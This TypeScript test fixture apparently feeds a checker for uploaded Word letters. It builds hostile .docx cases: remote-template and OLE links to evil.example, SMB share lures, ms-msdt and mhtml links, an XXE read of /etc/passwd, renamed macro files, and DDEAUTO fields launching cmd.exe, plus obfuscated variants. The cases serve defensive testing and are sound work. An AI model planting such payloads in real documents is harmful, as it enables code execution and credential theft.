import { docxDeclaring, docxFile, docxSaying, relation } from '../../kit/document-files';
import { oleFile } from '../../kit/ole-file';
import type { ZipEntry } from '../../kit/zip-file';
import { type, unfit, type Row } from './row';

const letter = (what: string, make: () => Buffer, verdict: Row[4] = type): Row => [
  what,
  'a.docx',
  make,
  type,
  verdict,
];
const wide = (text: string): Buffer =>
  Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(text, 'utf16le')]);
const bigEndian = (text: string): Buffer => wide(text).swap16();

const evil = 'http://evil.example/x';
const share = '\\\\evil.example\\share\\x';

/** Every kind of relationship that fetches something by itself, or hands a password to a share. */
const fetching: Row[] = [
  ['oleObject', evil],
  ['frame', evil],
  ['subDocument', evil],
  ['attachedTemplate', evil],
  ['attachedTemplate', share],
  ['aFChunk', evil],
  ['image', evil],
  ['image', share],
  ['video', evil],
  ['audio', evil],
  ['settings', evil],
  ['mailMergeSource', share],
  ['control', evil],
  ['hyperlink', share],
  ['hyperlink', 'file://evil.example/share/x'],
  ['hyperlink', 'mhtml:http://evil.example/x!x-usc:http://evil.example/y'],
  ['hyperlink', 'ms-msdt:/id PCWDiagnostic'],
  ['hyperlink', 'javascript:alert(1)'],
  ['hyperlink', `${evil}\\..\\y`],
].map(([kind, target]) =>
  letter(`a letter with an outside ${kind} at ${target}`, () => docxFile(relation(kind!, target!))),
);

const inOtherWords: Row[] = [
  letter(
    'a letter with a link that a person follows',
    () => docxFile(relation('hyperlink', 'https://clinic.example/a?b=1&amp;c')),
    'taken',
  ),
  letter(
    'a letter with a picture of its own',
    () => docxFile(relation('image', 'media/a.png', { mode: 'Internal' })),
    'taken',
  ),
  letter('a letter with an outside object in its footer', () =>
    docxFile(relation('oleObject', evil, { part: 'footer9' })),
  ),
  letter('a letter with an outside picture that says inside', () =>
    docxFile(relation('image', share, { mode: 'Internal' })),
  ),
  letter('a letter with an imported page of its own', () =>
    docxFile(relation('aFChunk', 'a.htm', { mode: 'Internal' })),
  ),
  letter('a letter with an outside frame in references', () =>
    docxFile(relation('&#102;rame', evil, { mode: '&#x45;xternal' })),
  ),
  letter('a letter with an outside frame in a list elsewhere', () =>
    docxFile({ ...relation('frame', evil), name: 'customXml/_rels/item1.xml.rels' }),
  ),
  letter('a letter with an outside frame in a list without its name', () =>
    docxFile({ ...relation('frame', evil), name: 'word/media/a.bin' }),
  ),
  letter('a letter with an outside frame behind a sign in quotes', () =>
    docxFile({
      name: 'word/_rels/a.xml.rels',
      data: `<Relationships><x:Relationship Id=">" Type='a/frame' TargetMode = 'External' Target='${evil}'/></Relationships>`,
    }),
  ),
  letter('a letter with a list in UTF-16', () =>
    docxFile({ name: 'word/_rels/a.xml.rels', data: wide(String(relation('frame', evil).data)) }),
  ),
  letter('a letter with a list in UTF-16 the other way round', () =>
    docxFile({
      name: 'word/_rels/a.xml.rels',
      data: bigEndian(String(relation('frame', evil).data)),
    }),
  ),
  letter('a letter with a list in UTF-7', () =>
    docxFile({
      name: 'word/_rels/a.xml.rels',
      data: '<?xml version="1.0" encoding="utf-7"?><Relationships/>',
    }),
  ),
  letter('a letter with its types in UTF-16', () => docxDeclaring(wide('<Types/>'))),
  letter('a letter with entities', () =>
    docxSaying('', {
      name: 'word/a.xml',
      data: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    }),
  ),
  letter('a letter of endless quotes', () => docxSaying('<w:p a="'), unfit),
];

const vba: ZipEntry = {
  name: 'word/media/picture1.bin',
  data: oleFile([{ name: '_VBA_PROJECT' }]),
};
const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml';

const macros: Row[] = [
  letter('a letter that is a renamed docm', () =>
    docxDeclaring(
      `<Types><Override PartName="/word/document.xml" ContentType="${macroType}"/></Types>`,
    ),
  ),
  letter('a letter that is a renamed docm in references', () =>
    docxDeclaring(
      `<Types><Override PartName="/word/document.xml" ContentType="${macroType.replace('E', '&#69;')}"/></Types>`,
    ),
  ),
  letter('a letter whose macros are declared for another ending', () =>
    docxDeclaring(
      '<Types><Default Extension="png" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    ),
  ),
  letter('a letter with macros under another name', () => docxFile(vba)),
  letter('a letter that leads to macros under another name', () =>
    docxFile({
      name: 'word/_rels/document.xml.rels',
      data: '<Relationships><Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.bin"/></Relationships>',
    }),
  ),
];

const run = (text: string): string =>
  `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const mark = (kind: string): string => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
const field = (...runs: string[]): string =>
  `<w:p>${mark('begin')}${runs.join('')}${mark('separate')}${mark('end')}</w:p>`;

const dde: Row[] = (
  [
    ['in one run', field(run(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))],
    ['that waits to be asked', field(run(' DDE excel x y '))],
    ['split over runs', field(run(' D'), run('DE'), run('AU'), run('TO x'))],
    ['in small letters', field(run('ddeauto x'))],
    ['with a gap between its letters', field(run('D\u200bDE'), run(' \n '), run('AUTO x'))],
    ['in references', field(run('&#68;&#x44;EAUTO x'))],
    [
      'in CDATA and comments',
      field('<w:r><w:instrText>D<!-- x --><![CDATA[DE]]>AUTO x</w:instrText></w:r>'),
    ],
    ['in a simple field', '<w:fldSimple w:instr=" DDEAUTO x "><w:r/></w:fldSimple>'],
    ['in quotes of a simple field', '<w:fldSimple w:instr=\'"DDEAUTO" x\'/>'],
    [
      'within another field',
      `<w:p>${mark('begin')}${run(' IF 1 ')}${field(run('DDE x y'))}${mark('end')}</w:p>`,
    ],
    ['in words that were deleted', field('<w:r><w:delInstrText>DDEAUTO x</w:delInstrText></w:r>')],
    ['without its marks', run('DDEAUTO x')],
    ['under another prefix', field('<z:r><z:instrText>DDEAUTO x</z:instrText></z:r>')],
  ] as const
).map(([what, xml]) =>
  letter(`a letter with a field that starts a program, ${what}`, () => docxSaying(xml)),
);

export const hostileLetters: Row[] = [
  ...fetching,
  ...inOtherWords,
  ...macros,
  ...dde,
  letter('a letter with such a field in its header', () =>
    docxFile({ name: 'word/header1.xml', data: `<w:hdr>${field(run('DDEAUTO x'))}</w:hdr>` }),
  ),
  letter(
    'a letter with harmless fields',
    () => docxSaying(field(run(' PAGE ')) + field(run(' HYPERLINK "https://x.example/dde" '))),
    'taken',
  ),
];
